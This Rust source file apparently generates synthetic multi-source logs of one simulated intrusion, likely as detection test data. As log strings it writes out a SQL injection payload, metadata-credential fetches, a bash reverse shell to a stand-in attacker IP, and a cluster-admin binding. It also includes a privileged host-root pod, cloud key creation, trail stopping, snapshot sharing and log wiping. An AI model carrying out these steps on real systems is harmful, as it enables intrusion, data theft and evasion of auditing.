//! The story: one intruder's twenty minutes, as all five sources log them.
//!
//! ```text
//!  0'  application  probes the shop: injection attempts, failed logins, a fetch of the metadata address (source.ip)
//!  1'  auth         guesses passwords on the bastion, is let in as `deploy`               (source.ip, user.name)
//!  4'  auth         becomes root there, reads its kubeconfig                              (user.name)
//!  6'  audit        as `deploy`, from outside: asks what it may, opens a shell in a pod   (source.ip, user.name, pod)
//!  8'  container    that pod asks the metadata address for credentials, opens a way back  (pod)
//!  9'  audit        the pod's service account is denied secrets, is bound to cluster-admin, reads them all
//! 13'  audit        starts a privileged pod on the host's root, enters it, wipes events
//! 15'  cloudtrail   the node's role from outside: identity, role, access key, trail stopped, snapshot shared
//! 18'  application  a stolen login exports the customers                                  (source.ip)
//! 19'  auth         wipes the bastion's log                                               (user.name)
//! ```

use casebook_event::Timestamp;

use crate::audit::Object;
use crate::cluster::{self, ACCOUNT, Cluster, NODE_ROLE};
use crate::corpus::CorpusRecord;
use crate::intruder::{ACCOUNT_NAME, ASSUMED_KEY, ATTACKER_IP, ApiRequest, AwsCall, Intruder, ShopRequest};
use crate::random::Random;

/// How long the story is.
pub const STORY_MINUTES: u32 = 20;

const PODS: Object<'_> = Object::all("", "pods");
const SECRETS: Object<'_> = Object::all("", "secrets");
const RULES_REVIEW: &str = concat!(
    r#"{"kind":"SelfSubjectRulesReview","apiVersion":"authorization.k8s.io/v1","metadata":{},"#,
    r#""spec":{"namespace":"payments"}}"#
);
const METADATA: &str = "http://169.254.169.254/latest/meta-data/iam/security-credentials";

/// The records of the attack on the cluster of a seed, in order of time.
pub fn story(seed: u64, start: Timestamp) -> Vec<CorpusRecord> {
    let cluster = Cluster::new(seed);
    let mut intruder = Intruder {
        pod: &cluster.pods[0],
        cluster: &cluster,
        random: Random::new(seed, "story"),
        start,
        records: Vec::with_capacity(128),
    };
    probe_the_shop(&mut intruder);
    guess_a_password(&mut intruder);
    become_root(&mut intruder);
    enter_a_pod(&mut intruder);
    steal_from_the_pod(&mut intruder);
    take_the_cluster(&mut intruder);
    reach_the_node(&mut intruder);
    take_the_account(&mut intruder);
    use_the_role(&mut intruder);
    export_and_wipe(&mut intruder);
    let mut records = intruder.records;
    records.sort_by_key(|record| record.time);
    records
}

fn probe_the_shop(intruder: &mut Intruder<'_>) {
    let search = ShopRequest {
        method: "GET",
        path: "/api/v2/products?q=%27%20UNION%20SELECT%20login%2Cpassword%20FROM%20users--",
        status: 500,
        user: "",
    };
    let error = concat!(
        r#","error.type":"SQLSyntaxError","#,
        r#""error.message":"ERROR: syntax error at or near \"UNION\" at character 48""#
    );
    for n in 0..4 {
        intruder.shop(
            2 + n * 7,
            "error",
            "query failed: syntax error at or near \"UNION\"",
            search,
            error,
        );
    }
    let login = ShopRequest {
        method: "POST",
        path: "/api/v2/session",
        status: 401,
        user: "admin",
    };
    for n in 0..14 {
        intruder.shop(32 + n * 5, "warn", "login failed: wrong password", login, "");
    }
    let path = format!("/api/v2/preview?url={METADATA}/");
    let fetch = ShopRequest {
        method: "GET",
        path: &path,
        status: 400,
        user: "",
    };
    intruder.shop(115, "warn", "preview of a link refused", fetch, "");
}

fn guess_a_password(intruder: &mut Intruder<'_>) {
    let strangers = ["admin", "oracle", "ubuntu", "git", "jenkins"];
    for n in 0..24u32 {
        let (pid, port) = (u64::from(20_400 + n), 40_022 + n * 37);
        let who = match n % 3 {
            0 => "root".to_owned(),
            1 => format!("invalid user {}", strangers[n as usize % strangers.len()]),
            _ => ACCOUNT_NAME.to_owned(),
        };
        let text = format!("Failed password for {who} from {ATTACKER_IP} port {port} ssh2");
        intruder.auth(62 + n * 5, "sshd", pid, &text);
    }
    let accepted = format!("Accepted password for {ACCOUNT_NAME} from {ATTACKER_IP} port 41022 ssh2");
    intruder.auth(190, "sshd", 20_431, &accepted);
    let opened = format!("pam_unix(sshd:session): session opened for user {ACCOUNT_NAME}(uid=1001) by (uid=0)");
    intruder.auth(191, "sshd", 20_431, &opened);
    intruder.auth(
        191,
        "systemd-logind",
        712,
        &format!("New session 4821 of user {ACCOUNT_NAME}."),
    );
}

fn become_root(intruder: &mut Intruder<'_>) {
    intruder.sudo(240, "/usr/bin/id");
    intruder.sudo(258, "/bin/bash");
    let opened = format!("pam_unix(sudo:session): session opened for user root(uid=0) by {ACCOUNT_NAME}(uid=1001)");
    intruder.auth(258, "sudo", 0, &opened);
    intruder.sudo(296, "/usr/bin/cat /root/.kube/config");
}

fn enter_a_pod(intruder: &mut Intruder<'_>) {
    let pod = intruder.pod;
    let rules = Object::all("authorization.k8s.io", "selfsubjectrulesreviews");
    intruder.kubectl(
        360,
        ApiRequest {
            verb: "create",
            object: rules,
            query: "",
            code: 201,
            body: RULES_REVIEW,
        },
    );
    let pods = PODS.at(&pod.namespace, "");
    intruder.kubectl(
        372,
        ApiRequest {
            verb: "list",
            object: pods,
            query: "?limit=500",
            code: 200,
            body: "",
        },
    );
    let object = PODS.at(&pod.namespace, &pod.name).sub("exec");
    let query = format!(
        "?command=%2Fbin%2Fsh&container={}&stdin=true&stdout=true&tty=true",
        pod.container
    );
    intruder.kubectl(
        410,
        ApiRequest {
            verb: "get",
            object,
            query: &query,
            code: 101,
            body: "",
        },
    );
}

fn steal_from_the_pod(intruder: &mut Intruder<'_>) {
    let child = "[supervisor] child started:";
    let token = "/var/run/secrets/kubernetes.io/serviceaccount/token";
    intruder.container(455, "stdout", &format!("{child} cat {token}"));
    intruder.container(480, "stdout", &format!("{child} curl -s {METADATA}/"));
    intruder.container(486, "stdout", &format!("{child} curl -s {METADATA}/{NODE_ROLE}"));
    intruder.container(
        521,
        "stderr",
        &format!("{child} bash -c bash -i >& /dev/tcp/{ATTACKER_IP}/4444 0>&1"),
    );
}

fn take_the_cluster(intruder: &mut Intruder<'_>) {
    let pod = intruder.pod;
    let list = ApiRequest {
        verb: "list",
        object: SECRETS,
        query: "?limit=500",
        code: 200,
        body: "",
    };
    for (namespace, seconds) in ["kube-system", "billing", "identity", "ledger", ""]
        .into_iter()
        .zip((545..).step_by(6))
    {
        let denied = ApiRequest {
            object: SECRETS.at(namespace, ""),
            code: 403,
            ..list
        };
        intruder.token(seconds, &pod.ip, denied);
    }
    let object = Object::all("rbac.authorization.k8s.io", "clusterrolebindings").at("", "payments-metrics-reader");
    let body = format!(
        r#"{{"kind":"ClusterRoleBinding","apiVersion":"rbac.authorization.k8s.io/v1","metadata":{{"name":"payments-metrics-reader"}},"subjects":[{{"kind":"ServiceAccount","name":"{}","namespace":"{}"}}],"roleRef":{{"apiGroup":"rbac.authorization.k8s.io","kind":"ClusterRole","name":"cluster-admin"}}}}"#,
        pod.workload, pod.namespace
    );
    let query = "?fieldManager=kubectl-create&fieldValidation=Strict";
    intruder.kubectl(
        630,
        ApiRequest {
            verb: "create",
            object,
            query,
            code: 201,
            body: &body,
        },
    );
    intruder.token(672, ATTACKER_IP, list);
    let taken = [
        ("ledger", "ledger-database"),
        ("identity", "oidc-signing-key"),
        ("kube-system", "aws-backup"),
    ];
    for ((namespace, name), seconds) in taken.into_iter().zip((690..).step_by(9)) {
        let object = SECRETS.at(namespace, name);
        intruder.token(
            seconds,
            ATTACKER_IP,
            ApiRequest {
                verb: "get",
                object,
                query: "",
                ..list
            },
        );
    }
}

fn reach_the_node(intruder: &mut Intruder<'_>) {
    let node = &intruder.cluster.nodes[intruder.pod.node].name;
    let object = PODS.at("kube-system", "kube-proxy-diag");
    let body = format!(
        r#"{{"kind":"Pod","apiVersion":"v1","metadata":{{"name":"kube-proxy-diag","namespace":"kube-system"}},"spec":{{"nodeName":"{node}","hostPID":true,"hostNetwork":true,"volumes":[{{"name":"root","hostPath":{{"path":"/","type":""}}}}],"containers":[{{"name":"diag","image":"docker.io/library/alpine:3.22","command":["sleep","86400"],"volumeMounts":[{{"name":"root","mountPath":"/host"}}],"securityContext":{{"privileged":true}}}}],"tolerations":[{{"operator":"Exists"}}]}}}}"#
    );
    let query = "?fieldManager=kubectl-create";
    intruder.token(
        780,
        ATTACKER_IP,
        ApiRequest {
            verb: "create",
            object,
            query,
            code: 201,
            body: &body,
        },
    );
    let query = "?command=chroot&command=%2Fhost&command=bash&container=diag&stdin=true&stdout=true&tty=true";
    let exec = object.sub("exec");
    intruder.token(
        815,
        ATTACKER_IP,
        ApiRequest {
            verb: "get",
            object: exec,
            query,
            code: 101,
            body: "",
        },
    );
    let events = Object::all("", "events").at("kube-system", "");
    let wipe = ApiRequest {
        verb: "deletecollection",
        object: events,
        query: "",
        code: 200,
        body: "",
    };
    intruder.token(866, ATTACKER_IP, wipe);
}

/// A call without parameters.
fn call(service: &'static str, name: &'static str, read_only: bool) -> AwsCall<'static> {
    AwsCall {
        service,
        name,
        read_only,
        request: "null",
        response: "null",
    }
}

fn take_the_account(intruder: &mut Intruder<'_>) {
    intruder.aws(905, None, call("sts.amazonaws.com", "GetCallerIdentity", true));
    intruder.aws(922, None, call("iam.amazonaws.com", "ListRoles", true));
    let request =
        &format!(r#"{{"roleArn":"arn:aws:iam::{ACCOUNT}:role/support-admin","roleSessionName":"maintenance"}}"#);
    let response = &format!(
        r#"{{"credentials":{{"accessKeyId":"{ASSUMED_KEY}","expiration":"Nov 24, 2026, 11:30:00 AM"}},"assumedRoleUser":{{"assumedRoleId":"AROA2OTHERS9ZEXAMPLE:maintenance","arn":"arn:aws:sts::{ACCOUNT}:assumed-role/support-admin/maintenance"}}}}"#
    );
    intruder.aws(
        944,
        None,
        AwsCall {
            request,
            response,
            ..call("sts.amazonaws.com", "AssumeRole", true)
        },
    );
}

/// With the assumed role: another key, a policy for it, no trail, and a snapshot for a stranger.
fn use_the_role(intruder: &mut Intruder<'_>) {
    let role = Some(("support-admin", "maintenance"));
    let key = cluster::access_key(&mut intruder.random, "AKIA");
    let request = r#"{"userName":"backup-svc"}"#;
    let response = &format!(r#"{{"accessKey":{{"userName":"backup-svc","accessKeyId":"{key}","status":"Active"}}}}"#);
    intruder.aws(
        975,
        role,
        AwsCall {
            request,
            response,
            ..call("iam.amazonaws.com", "CreateAccessKey", false)
        },
    );
    let request = r#"{"userName":"backup-svc","policyArn":"arn:aws:iam::aws:policy/AdministratorAccess"}"#;
    intruder.aws(
        990,
        role,
        AwsCall {
            request,
            ..call("iam.amazonaws.com", "AttachUserPolicy", false)
        },
    );
    let request = &format!(r#"{{"name":"arn:aws:cloudtrail:eu-west-1:{ACCOUNT}:trail/organization"}}"#);
    intruder.aws(
        1020,
        role,
        AwsCall {
            request,
            ..call("cloudtrail.amazonaws.com", "StopLogging", false)
        },
    );
    let request = concat!(
        r#"{"snapshotId":"snap-0d1e2f3a4b5c69788","#,
        r#""createVolumePermission":{"add":{"items":[{"userId":"999988887777"}]}},"#,
        r#""attributeType":"CREATE_VOLUME_PERMISSION"}"#
    );
    let response = r#"{"_return":true}"#;
    intruder.aws(
        1051,
        role,
        AwsCall {
            request,
            response,
            ..call("ec2.amazonaws.com", "ModifySnapshotAttribute", false)
        },
    );
}

fn export_and_wipe(intruder: &mut Intruder<'_>) {
    let login = ShopRequest {
        method: "POST",
        path: "/api/v2/session",
        status: 200,
        user: "admin",
    };
    intruder.shop(1085, "info", "login succeeded", login, "");
    let export = ShopRequest {
        method: "GET",
        path: "/api/v2/admin/export?table=customers",
        ..login
    };
    let rows = r#","export":{"table":"customers","rows":48210,"format":"csv"}"#;
    intruder.shop(1106, "info", "export finished: customers", export, rows);
    intruder.sudo(1150, "/usr/bin/truncate -s 0 /var/log/auth.log");
    intruder.sudo(1162, "/usr/bin/systemctl stop auditd");
    let left = format!("Disconnected from user {ACCOUNT_NAME} {ATTACKER_IP} port 41022");
    intruder.auth(1180, "sshd", 20_431, &left);
}
